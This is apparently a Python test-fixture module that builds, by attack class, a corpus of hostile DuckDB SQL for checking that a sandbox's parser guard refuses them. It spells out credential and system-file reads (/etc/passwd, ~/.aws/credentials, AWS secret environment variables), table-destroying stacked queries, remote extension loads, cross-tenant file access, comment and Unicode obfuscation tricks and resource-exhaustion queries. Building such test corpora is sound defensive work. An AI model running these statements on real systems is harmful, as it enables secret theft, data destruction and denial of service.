"""A corpus of hostile SQL for the data-analysis sandbox, by class of attack.

:func:`hostile` is the parser guard's bar (every statement but the resource hogs must be refused before running);
:func:`extended` adds macros, comment and unicode tricks, other tenants' files and resource exhaustion by every
list, string, recursive and join function we found, for the end-to-end corpus test through the stage
(``tests/test_hostile_sql.py``). Statements name the loaded table ``k_<OWN>``.
"""

from __future__ import annotations

import itertools
from pathlib import Path

from ragstep.adapters.analysis.duckdb import table_name

OWN = "kown"  # the knowledge item a request loaded
OTHER_KB = table_name("kother")  # a data file of another knowledge base (never loaded here)
OTHER_TENANT = table_name("tenant2file")
SECRET = "TOP-SECRET-CANARY"
#: Sizes past any limit: a list of 2e8 BIGINTs is 1.6 GB, a string of 1.5e9 characters 1.5 GB.
LIST_N = 200_000_000
TEXT_N = 1_500_000_000


def hostile(tmp: Path) -> dict[str, list[str]]:
    """The statements, by category: hand-written ones, and generated ones (every verb x target, every reader x
    path x the place it hides in). ``tmp`` holds the canary ``secret.txt``; ``out.csv`` must never appear there."""
    own = table_name(OWN)
    secret = str(tmp / "secret.txt")
    out = str(tmp / "out.csv")
    paths = [secret, "/etc/passwd", "/proc/self/environ", "~/.aws/credentials", "file:///etc/passwd",
             "https://example.com/x.csv", "s3://bucket/key.csv", "/tmp/*"]  # fmt: skip
    readers = ["read_csv", "read_csv_auto", "read_text", "read_blob", "read_json", "read_parquet", "glob",
               "sniff_csv", "parquet_metadata"]  # fmt: skip

    def hide(source: str) -> list[str]:
        # The same read, as the FROM, in a CTE, in a join, in a subquery of WHERE, in a UNION.
        return [
            f"SELECT * FROM {source}",
            f"WITH t AS (SELECT * FROM {source}) SELECT * FROM t",
            f"SELECT * FROM {own} JOIN {source} ON true",
            f"SELECT * FROM {own} WHERE price IN (SELECT 1 FROM {source})",
            f"SELECT city FROM {own} UNION ALL SELECT * FROM {source}",
        ]

    writes = [
        f"INSERT INTO {own} VALUES ('x', 1)",
        f"UPDATE {own} SET price = 0",
        f"DELETE FROM {own}",
        f"TRUNCATE {own}",
        f"DROP TABLE {own}",
        f"ALTER TABLE {own} RENAME TO gone",
        f"ALTER TABLE {own} ADD COLUMN x INT",
        "CREATE TABLE evil AS SELECT 1",
        f"CREATE VIEW evil AS SELECT * FROM {own}",
        "CREATE MACRO evil(x) AS x",
        "CREATE SEQUENCE evil",
        "CREATE SCHEMA evil",
        "CREATE TYPE evil AS ENUM ('a')",
        f"CREATE INDEX evil ON {own}(city)",
        "CREATE SECRET evil (TYPE s3, KEY_ID 'a', SECRET 'b')",
        f"COPY {own} TO '{out}'",
        f"COPY (SELECT * FROM {own}) TO '{out}' (FORMAT csv)",
        f"COPY {own} FROM '{secret}'",
        f"EXPORT DATABASE '{tmp / 'export'}'",
        f"IMPORT DATABASE '{tmp}'",
        "VACUUM",
        "CHECKPOINT",
        "ANALYZE",
        f"INSERT INTO {own} SELECT * FROM read_csv('{secret}')",
        f"WITH x AS (SELECT 1) DELETE FROM {own}",
        f"MERGE INTO {own} USING (SELECT 'x' AS city) s ON s.city = {own}.city WHEN MATCHED THEN DELETE",
    ]
    attach = [
        f"ATTACH '{tmp / 'evil.db'}' AS evil",
        "ATTACH ':memory:' AS evil",
        f"ATTACH '{secret}' (TYPE sqlite)",
        "ATTACH 'md:' AS evil",
        "DETACH memory",
        "DETACH DATABASE IF EXISTS evil",
        "USE system",
    ]
    extensions = [
        "INSTALL httpfs",
        "FORCE INSTALL httpfs",
        "INSTALL shellfs FROM community",
        "LOAD httpfs",
        "LOAD excel",
        f"LOAD '{tmp / 'evil.duckdb_extension'}'",
        "INSTALL 'https://example.com/evil.duckdb_extension'",
    ]
    settings = [
        "SET enable_external_access = true",
        "SET lock_configuration = false",
        "RESET lock_configuration",
        "SET threads = 8",
        "SET memory_limit = '100GB'",
        "SET allowed_directories = ['/']",
        "SET temp_directory = '/tmp'",
        "PRAGMA threads = 8",
        "PRAGMA enable_profiling",
        "PRAGMA database_list",
        "PRAGMA show_tables",
        f"PRAGMA table_info('{own}')",
        "CALL pragma_version()",
        "CALL duckdb_settings()",
        "SET VARIABLE x = 1",
        "RESET ALL",
    ]
    reads = [f"SELECT * FROM {r}('{p}')" for r, p in itertools.product(readers, paths)]
    reads += [q for p in (secret, "/etc/passwd", "https://example.com/x.csv") for q in hide(f"read_csv('{p}')")]
    reads += [
        f"SELECT * FROM '{secret}'",
        "SELECT * FROM '/etc/passwd'",
        "SELECT * FROM 'https://example.com/data.csv'",
        "SELECT * FROM 's3://bucket/data.parquet'",
        f"SELECT content FROM read_text('{secret}')",
        "SELECT getenv('HOME')",
        "SELECT getenv('AWS_SECRET_ACCESS_KEY')",
        "SELECT current_setting('home_directory')",
        "SELECT * FROM duckdb_settings()",
        "SELECT * FROM duckdb_extensions()",
        "SELECT * FROM duckdb_secrets()",
        "SELECT * FROM duckdb_tables()",
        "SELECT * FROM duckdb_tables",
        "SELECT * FROM information_schema.tables",
        "SELECT * FROM pg_catalog.pg_class",
        "SELECT * FROM sqlite_master",
        "SELECT * FROM system.main.duckdb_settings()",
        f"SELECT * FROM query('SELECT * FROM read_csv(''{secret}'')')",
        f"SELECT * FROM query_table('{own}')",
        f"SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM {own}'))",
        "SELECT version()",
        "SELECT * FROM range(10)",
        "SELECT * FROM generate_series(1, 10)",
        f"SELECT * FROM memory.main.{own}",
        f"SELECT * FROM main.{own}",
        f"SELECT * FROM {own} AT (VERSION => 1)",
        f"SUMMARIZE {own}",
        f"DESCRIBE {own}",
        "SHOW TABLES",
        "SHOW ALL TABLES",
        f"PIVOT {own} ON city USING sum(price)",
        f"EXPLAIN SELECT * FROM {own}",
        f"EXPLAIN ANALYZE SELECT * FROM {own}",
        f"SELECT * FROM {own}, (WITH duckdb_settings AS (SELECT 1) SELECT * FROM duckdb_settings) x, duckdb_settings",
        "SELECT setseed(0.5)",
        "SELECT nextval('s')",
    ]
    stacked = [
        f"SELECT 1; DROP TABLE {own}",
        f"SELECT 1;DELETE FROM {own};",
        f"SELECT * FROM {own}; COPY {own} TO '{out}'",
        f"SELECT 1 /* comment */; ATTACH '{tmp / 'x.db'}'",
        "SELECT 1 --\n; INSTALL httpfs",
        f"SELECT ';' AS s; DROP TABLE {own}",
        f"SELECT $$;$$; DROP TABLE {own}",
        f"SELECT 'it''s'; DELETE FROM {own}",
        "SELECT 1；DROP TABLE x",  # a full-width semicolon: not SQL at all
        "SELECT 1 UNION SELECT 2; SET enable_external_access = true",
        f"/* SELECT */ DROP TABLE {own}",
        f"-- SELECT\nDELETE FROM {own}",
        "SELECT 1; SELECT 2",
        "WITH a AS (SELECT 1) SELECT * FROM a; PRAGMA threads = 8",
        'SELECT "a;b" FROM (SELECT 1 AS "a;b"); LOAD httpfs',
        f"SELECT 1\n;\nCOPY (SELECT 1) TO '{out}'",
        f"SELECT E'\\x3b'; DROP TABLE {own}",
        "SELECT 1; CALL pragma_version()",
    ]
    other = [
        f"SELECT * FROM {OTHER_KB}",
        f"SELECT * FROM {OTHER_TENANT}",
        f"SELECT * FROM {own} JOIN {OTHER_KB} USING (city)",
        f"SELECT * FROM {own} WHERE city IN (SELECT city FROM {OTHER_TENANT})",
        f"WITH x AS (SELECT * FROM {OTHER_KB}) SELECT * FROM x",
        f"SELECT * FROM other_db.main.{own}",
        f'SELECT * FROM "{OTHER_KB}"',
        "SELECT * FROM k_",
        f"SELECT * FROM {own}_sheet1",
    ]
    limits = [
        f"SELECT count(*) FROM {own} a, {own} b, {own} c, {own} d",
        f"SELECT * FROM {own} a, {own} b, {own} c ORDER BY random()",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
        f"WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r, {own}) SELECT max(n) FROM r",
        f"SELECT string_agg(a.city || b.city, ',') FROM {own} a, {own} b",
        f"SELECT list(a.price) FROM {own} a, {own} b, {own} c",
    ]
    return {
        "writes": writes,
        "attach_detach": attach,
        "install_load": extensions,
        "pragma_set": settings,
        "file_url_env_reads": reads,
        "stacked_and_hidden": stacked,
        "other_kb_or_tenant": other,
        "resource_limits": limits,
    }


def extended(tmp: Path, other_tenant_file: Path) -> dict[str, list[str]]:
    """The classes :func:`hostile` lacks. ``other_tenant_file`` is another tenant's stored data file on this disk."""
    own = table_name(OWN)
    theirs = str(other_tenant_file)
    secret = str(tmp / "secret.txt")
    macros = [
        "CREATE MACRO evil(x) AS x",
        "CREATE TEMP MACRO evil() AS TABLE SELECT * FROM read_csv('/etc/passwd')",
        "CREATE OR REPLACE MACRO getenv(x) AS 'masked'",
        "CREATE FUNCTION evil(a) AS a + 1",
        "CREATE MACRO read_text(x) AS TABLE SELECT 1",
        "DROP MACRO evil",
        "DROP MACRO TABLE evil",
        "SELECT evil(1)",
        "SELECT * FROM evil()",
        f"CREATE MACRO k(x) AS (SELECT count(*) FROM {own}); SELECT k(1)",
        "CREATE TEMPORARY MACRO leak() AS getenv('HOME')",
        "SELECT * FROM duckdb_functions() WHERE function_type = 'macro'",
    ]
    comments = [
        f"SELECT 1 /* ; DROP TABLE {own} */",
        "/*+ hint */ SELECT * FROM read_csv('/etc/passwd')",
        f"SELECT 1 --\rDROP TABLE {own}",
        f"SELECT 1 /* nested /* comment */ ; DROP TABLE {own} */",
        "SELECT/**/*/**/FROM/**/read_text('/etc/passwd')",
        "SELECT * FROM read_csv/**/('/etc/passwd')",
        f"SELECT 1 -- \u2028 ; DROP TABLE {own}",
        "-- harmless\nSELECT * FROM glob('/*')",
        f"SELECT * FROM /* {own} */ read_blob('/etc/passwd')",
        f"SELECT 1 # ; DROP TABLE {own}",
        f"SELECT 1 /*/ ; DROP TABLE {own} /*/",
        f"SELECT count(*) FROM {own} -- ; COPY {own} TO '{tmp / 'out.csv'}'",
        "SELECT 1 /* unterminated ; ATTACH ':memory:' AS evil",
    ]
    unicode = [
        f"ＳＥＬＥＣＴ * FROM {own}",
        "SELECT * FROM reаd_csv('/etc/passwd')",  # Cyrillic a
        "SELECT getenv\u200b('HOME')",
        "SELECT gеtenv('HOME')",  # Cyrillic e
        f'SELECT * FROM "{own}\u200b"',
        f"SELECT 1\u037e DROP TABLE {own}",  # the Greek question mark looks like a semicolon
        f"SELECT 1\ufe54 DROP TABLE {own}",  # small semicolon
        "SELECT '\u202e' || current_setting('home_directory')",
        "SELECT * FROM read_csv(U&'/etc/p\\0061sswd')",
        "SELECT\u00a0*\u00a0FROM\u00a0read_text('/etc/passwd')",
        "SELECT * FROM 'ﬁle:///etc/passwd'",
        "SeLeCt GeTeNv('HOME')",
        "SELECT \"getenv\"('HOME')",
        "SELECT \"GETENV\"('HOME')",
        f"SELECT * FROM \"K_KOWN\" UNION ALL SELECT * FROM read_csv('{secret}')",
        "SELECT * FROM ｒｅａｄ＿ｃｓｖ('/etc/passwd')",
    ]
    readers = ["read_csv", "read_csv_auto", "read_text", "read_blob", "read_json", "read_json_auto", "read_parquet",
               "read_ndjson", "sniff_csv"]  # fmt: skip
    tenants = [f"SELECT * FROM {r}('{theirs}')" for r in readers]
    tenants += [
        f"SELECT * FROM '{theirs}'",
        f"COPY {own} FROM '{theirs}'",
        f"ATTACH '{theirs}' AS t2",
        f"SELECT * FROM glob('{other_tenant_file.parent}/*')",
        f"SELECT * FROM read_csv('{other_tenant_file.parent}/*.csv')",
        f"SELECT * FROM {OTHER_TENANT} UNION ALL SELECT * FROM {own}",
        f"SELECT * FROM {own} a JOIN {OTHER_TENANT} b ON true",
    ]
    lists = [f"range({LIST_N})", f"generate_series(1, {LIST_N})", f"list_resize([1], {LIST_N})",
             f"range(0, {LIST_N * 2}, 2)"]  # fmt: skip
    list_uses = [
        "len({L})",
        "list_sum({L})",
        "list_transform({L}, x -> x + 1)",
        "list_filter({L}, x -> x % 2 = 0)",
        "list_reduce({L}, (a, b) -> a + b)",
        "list_sort({L})",
        "list_distinct({L})",
        "list_reverse({L})",
        "length({L}::VARCHAR)",
        "length(to_json({L}))",
        "(SELECT count(*) FROM (SELECT unnest({L})))",
        "len(list_concat({L}, {L}))",
        "len(flatten([{L}, {L}]))",
        "len(list_zip({L}, {L}))",
        "list_aggregate({L}, 'string_agg', ',')",
        "length(array_to_string({L}, ','))",
        "list_position({L}, -1)",
        "list_has_any({L}, [-1])",
    ]
    texts = [f"repeat('x', {TEXT_N})", f"lpad('x', {TEXT_N}, 'y')", f"rpad('x', {TEXT_N}, 'y')",
             f"printf('%0{TEXT_N}d', 1)", f"repeat('汉', {TEXT_N // 3})",
             f"concat(repeat('ab', {TEXT_N // 2}), 'c')"]  # fmt: skip
    text_uses = [
        "length({S})",
        "md5({S})",
        "upper({S})",
        "reverse({S})",
        "replace({S}, 'x', 'yy')",
        "regexp_replace({S}, 'x', 'yy', 'g')",
        "len(string_split({S}, ''))",
        "strlen({S} || {S})",
        "contains({S}, 'z')",
        "hash({S})",
        "length(translate({S}, 'x', 'z'))",
        "length(to_base64({S}::BLOB))",
    ]
    exhaustion = [f"SELECT {use.format(L=li)}" for li, use in itertools.product(lists, list_uses)]
    exhaustion += [f"SELECT {use.format(S=s)}" for s, use in itertools.product(texts, text_uses)]
    exhaustion += [
        f"SELECT string_agg(repeat(city, 100000), ',') FROM {own}",
        f"SELECT list(range(price * 100000)) FROM {own}",
        f"SELECT max(len(range(price * 1000000))) FROM {own}",
        f"SELECT bar(price, 0, 1, {TEXT_N}) FROM {own}",
        f"SELECT length(string_agg(lpad(city, 1000000, '-'), '')) FROM {own}",
    ]
    recursive = [
        "WITH RECURSIVE r(s) AS (SELECT 'x' UNION ALL SELECT s || s FROM r) SELECT length(max(s)) FROM r",
        "WITH RECURSIVE r(l) AS (SELECT [1] UNION ALL SELECT list_concat(l, l) FROM r) SELECT max(len(l)) FROM r",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r, (VALUES (1), (2)) v(x)) "
        "SELECT count(*) FROM r",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION SELECT n + 1 FROM r) SELECT max(n) FROM r",
        "WITH RECURSIVE r(n, l) AS (SELECT 1, [1] UNION ALL SELECT n + 1, l || [n] FROM r) SELECT max(n) FROM r",
        "WITH RECURSIVE r(n, s) AS (SELECT 1, repeat('x', 1000000) UNION ALL SELECT n + 1, s || 'y' FROM r) "
        "SELECT count(*) FROM r",
        f"WITH RECURSIVE r(n) AS (SELECT price FROM {own} UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
        "WITH RECURSIVE r(n, s) AS (SELECT 1, 'a' UNION ALL SELECT n + 1, repeat(s, 2) FROM r WHERE n < 64) "
        "SELECT max(length(s)) FROM r",
        "WITH RECURSIVE a(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM a), b AS (SELECT * FROM a LIMIT 100000000) "
        "SELECT sum(n) FROM b",
        "WITH RECURSIVE r(n, l) AS (SELECT 1, range(1000) UNION ALL SELECT n + 1, list_concat(l, range(1000)) "
        "FROM r) SELECT max(n) FROM r",
    ]
    joins = [
        f"SELECT count(*) FROM {own} a, {own} b, {own} c, {own} d, {own} e",
        f"SELECT sum(a.price * b.price * c.price) FROM {own} a, {own} b, {own} c",
        f"SELECT * FROM {own} a, {own} b, {own} c ORDER BY a.price * b.price - c.price DESC",
        f"SELECT count(DISTINCT a.price * 1000000 + b.price * 1000 + c.price) FROM {own} a, {own} b, {own} c",
        f"SELECT list(a.city || b.city || c.city) FROM {own} a, {own} b, {own} c",
        f"SELECT length(string_agg(a.city || b.city, ',')) FROM {own} a, {own} b, {own} c",
        f"SELECT count(*) FROM {own} a JOIN {own} b ON a.price < b.price JOIN {own} c ON b.price < c.price",
        f"SELECT sum(a.price) OVER (ORDER BY b.price, c.price) FROM {own} a, {own} b, {own} c",
        f"SELECT median(a.price + b.price + c.price) FROM {own} a, {own} b, {own} c",
        f"SELECT histogram(a.price * b.price) FROM {own} a, {own} b, {own} c",
        f"SELECT count(*) FROM {own} a JOIN {own} b USING (city) JOIN {own} c USING (city) JOIN {own} d USING (city)",
        f"SELECT a.city, array_agg(b.price ORDER BY c.price) FROM {own} a, {own} b, {own} c GROUP BY 1",
        f"SELECT count(*) FROM (SELECT unnest(range(a.price * 10000)) FROM {own} a) x",
        f"SELECT quantile_cont(a.price * b.price, [0.1, 0.5, 0.9]) FROM {own} a, {own} b, {own} c",
        f"SELECT mode(a.price * b.price + c.price) FROM {own} a, {own} b, {own} c",
    ]
    return {
        "macros": macros,
        "comment_tricks": comments,
        "unicode_tricks": unicode,
        "other_tenant_files": tenants,
        "exhaustion_list_string": exhaustion,
        "exhaustion_recursive": recursive,
        "exhaustion_join": joins,
    }
